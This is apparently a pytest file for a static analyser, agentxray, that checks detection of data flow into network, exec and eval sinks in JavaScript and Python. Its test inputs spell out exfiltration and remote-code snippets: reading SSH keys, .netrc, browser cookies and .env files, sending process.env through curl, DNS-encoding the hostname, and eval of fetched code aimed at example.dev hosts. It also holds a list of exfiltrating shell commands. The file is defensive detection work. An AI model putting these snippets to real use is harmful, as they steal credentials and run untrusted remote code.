"""Sinks the data flow recognises beyond plain ``fetch``: sockets, clients, downloads, helpers.

Each test names the idiom and asserts which source reaches which sink in which role, with a
look-alike that must not carry it.
"""

from __future__ import annotations

from functools import cache

import pytest

from agentxray.analyze.facts.js import JsFactExtractor
from agentxray.analyze.facts.jssinks import sends
from agentxray.analyze.facts.python import extract_python
from agentxray.analyze.interface import SourceUnit
from agentxray.model import Fact, FileEntry
from agentxray.rules.engine import FLOW
from agentxray.rules.loader import default_rules


@cache
def _extractor() -> JsFactExtractor:
    return JsFactExtractor(default_rules().needles())


def js_facts(src: str) -> list[Fact]:
    data = src.encode()
    unit = SourceUnit(FileEntry("a.js", "javascript", len(data), ""), data)
    return _extractor().extract(unit)


def carried(facts: list[Fact], role: str) -> set[tuple[str, str]]:
    return {(f.kind, f.value) for f in facts if f.detail == FLOW + role}


def carried_at(facts: list[Fact], role: str, line: int) -> set[tuple[str, str]]:
    """Copies carried into the sinks whose span starts on ``line`` (JS: offsets of lines)."""
    return {
        (f.kind, f.value)
        for f in facts
        if f.detail == FLOW + role and f.span is not None and _line_of(facts, f.span[0]) == line
    }


def _line_of(facts: list[Fact], offset: int) -> int:
    for f in facts:
        if f.location.offset == offset and not f.detail.startswith(FLOW):
            return f.location.line or 0
    return 0


def plain(facts: list[Fact], kind: str) -> list[str]:
    return [f.value for f in facts if f.kind == kind and not f.detail.startswith(FLOW)]


def test_js_socket_message_handlers_receive_the_socket() -> None:
    src = 'const W = require("ws");\nlet s;\n'
    src += 'function a() { s = new W("wss://c.example.dev"); s.onmessage = (ev) => eval(JSON.parse(ev.data).code); }\n'
    src += 'function b() { const t = new W("wss://c.example.dev"); t.on("message", (m) => console.log(m)); }\n'
    facts = js_facts(src)
    assert ("network_request", "ws") in carried(facts, "code")
    assert len([f for f in facts if f.detail == FLOW + "code"]) == 1  # b() runs nothing


def test_js_udp_sends_carry_their_payload() -> None:
    src = 'const dgram = require("dgram"), os = require("os");\nconst u = dgram.createSocket("udp4");\n'
    src += (
        'function g(n) { u.send(Buffer.from(`${n}|h:${os.hostname()}`), 8125, "m.example.dev"); }\n'
    )
    facts = js_facts(src)
    assert "dgram.createSocket.send" in plain(facts, "network_request")
    assert ("member", "os.hostname") in carried(facts, "payload")


def test_js_configured_client_instances_are_requests() -> None:
    src = 'const axios = require("axios"), os = require("os");\n'
    src += 'const api = axios.create({ baseURL: "https://s.example.dev" });\n'
    src += 'async function p() { await api.post("/ctx", { user: os.userInfo().username }); }\n'
    facts = js_facts(src)
    assert "axios.create().post" in plain(facts, "network_request")
    assert ("member", "os.userInfo") in carried(facts, "payload")
    assert ("url", "https://s.example.dev") in carried(facts, "destination")


def test_js_downloaded_file_path_carries_the_request_into_a_command() -> None:
    src = 'const https = require("https"), fs = require("fs"), cp = require("child_process");\n'
    src += "function save(u, f) { https.get(u, (r) => { const o = fs.createWriteStream(f); r.pipe(o); }); }\n"
    src += 'function up(u) { const t = "/tmp/n.tgz"; save(u, t); cp.execSync(`tar -xzf ${t} -C ${__dirname}`); }\n'
    src += 'function local() { const t = "/tmp/own.tgz"; cp.execSync(`tar -xzf ${t}`); }\n'
    facts = js_facts(src)
    command = carried(facts, "command")
    assert ("network_request", "https.get") in command
    assert ("call", "fs.createWriteStream") in command
    assert ("member", "__dirname") in command
    assert "tar -xzf /tmp/n.tgz -C <dir>" in plain(facts, "exec")


def test_js_require_of_a_computed_path_is_a_code_sink() -> None:
    src = 'const fs = require("fs");\n'
    src += "async function l(u, f) { fs.writeFileSync(f, await (await fetch(u)).text()); return require(f); }\n"
    src += 'const own = require("./own.js");\n'
    facts = js_facts(src)
    assert plain(facts, "call").count("require") == 1
    assert ("network_request", "fetch") in carried(facts, "code")


def test_js_loops_over_path_lists_read_each_path() -> None:
    src = 'const fs = require("fs"), path = require("path"), os = require("os");\n'
    src += 'const L = [path.join(os.homedir(), ".ssh", "id_rsa"), path.join(os.homedir(), ".netrc")];\n'
    src += 'for (const f of L) fs.readFileSync(f, "utf8");\n'
    src += "L.map((p) => fs.readFileSync(p));\n"
    assert plain(js_facts(src), "file_read") == ["{~/.ssh/id_rsa,~/.netrc}"] * 2


def test_js_copied_files_are_read_and_template_loops_spell_alternatives() -> None:
    src = 'const { copyFileSync } = require("fs");\n'
    src += 'for (const s of ["Cookies", "Login Data"]) copyFileSync(`/p/${s}`, "/tmp/x");\n'
    assert "/p/{Cookies,Login Data}" in plain(js_facts(src), "file_read")


def test_js_instance_fields_and_private_methods_carry_payloads() -> None:
    src = 'import W from "ws"; import * as os from "node:os";\n'
    src += "class F {\n  s = null;\n"
    src += '  open() { this.s = new W("wss://l.example.dev"); this.#send({ h: os.hostname() }); }\n'
    src += "  #send(m) { this.s?.send(JSON.stringify(m)); }\n}\n"
    facts = js_facts(src)
    assert ("member", "os.hostname") in carried(facts, "payload")


def test_js_dns_method_spelled_in_pieces() -> None:
    src = (
        'const d = require("dns"), os = require("os");\nconst k = ["res", "olve", "4"].join("");\n'
    )
    src += "function p() { d[k](`${os.hostname()}.z.example.dev`, () => {}); }\n"
    facts = js_facts(src)
    assert "dns.resolve4" in plain(facts, "network_request")
    assert ("member", "os.hostname") in carried(facts, "payload")


def test_js_runner_helpers_pass_what_their_callers_give() -> None:
    src = "function run(src) { return new Function(src)(); }\n"
    src += 'async function p() { run(await (await fetch("https://c.example.dev/p.js")).text()); }\n'
    src += 'function q() { run("return 1"); }\n'
    facts = js_facts(src)
    code = [f for f in facts if f.detail == FLOW + "code" and f.kind == "network_request"]
    assert len({f.span for f in code}) == 1


def test_python_instance_sockets_and_raised_exits() -> None:
    src = "import socket, sys, requests\n"
    src += "class M:\n    def __init__(self):\n        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    src += "    def t(self, n):\n        self.s.sendto(f'{n}|{socket.gethostname()}'.encode(), ('m.example.dev', 8125))\n"
    src += "def k():\n    c = requests.get('https://c.example.dev/f').json()\n"
    src += "    if c.get('halt'):\n        raise SystemExit(3)\n"
    facts = extract_python("a.py", src)
    assert "socket.socket().sendto" in plain(facts, "network_request")
    assert ("call", "socket.gethostname") in carried(facts, "payload")
    assert ("network_request", "requests.get") in carried(facts, "condition")


def test_python_runner_helpers_and_container_writes() -> None:
    src = "import urllib.request\nfrom pathlib import Path\n"
    src += "def run(code):\n    exec(compile(code, 'x', 'exec'), {})\n"
    src += (
        "def poll():\n    run(urllib.request.urlopen('https://c.example.dev/t').read().decode())\n"
    )
    src += "def envs():\n    out = {}\n    for p in Path('..').iterdir():\n        out[p.name] = (p / '.env').read_text()\n"
    src += "    urllib.request.urlopen(urllib.request.Request('https://s.example.dev', data=str(out).encode()))\n"
    facts = extract_python("a.py", src)
    assert ("network_request", "urllib.request.urlopen") in carried(facts, "code")
    assert ("file_read", "*/.env") in carried(facts, "payload")


@pytest.mark.parametrize(
    ("command", "sending"),
    [
        ("curl -s --data-binary @- *", True),
        ("/usr/bin/curl -T *", True),
        ("env HTTPS_PROXY=x curl -d *", True),
        ("sh -c curl -s --data-binary @- *", True),
        ("/bin/bash -lc 'wget --post-file=*", True),
        ("cmd /c curl *", True),
        ("pwsh -NoProfile -Command Invoke-RestMethod *", True),
        ("ssh * cat > /tmp/x", True),
        ("aws s3 cp * s3://*", True),
        ("sh -c sort | tee env.txt", False),
        ("ls /usr/bin/curl", False),
        ("git status", False),
        ("aws s3 ls", False),
        ("curlew --help", False),
    ],
)
def test_network_commands_are_recognised_behind_paths_env_and_shells(
    command: str, sending: bool
) -> None:
    assert sends(command) is sending


def test_what_is_written_to_a_network_commands_stdin_is_payload() -> None:
    src = 'const cp = require("child_process");\n'
    src += "function up(u) { const c = cp.spawn('sh', ['-c', `curl --data-binary @- ${u}`]);\n"
    src += "  c.stdin.end(JSON.stringify(process.env)); }\n"
    src += "function local() { const c = cp.spawn('sort');\n"
    src += "  c.stdin.end(JSON.stringify(process.env)); }\n"
    facts = js_facts(src)
    sent = [f for f in facts if f.kind == "env_read" and f.detail == FLOW + "payload"]
    assert [f.scope for f in sent] == [f"fn@{src.index('function up')}"]
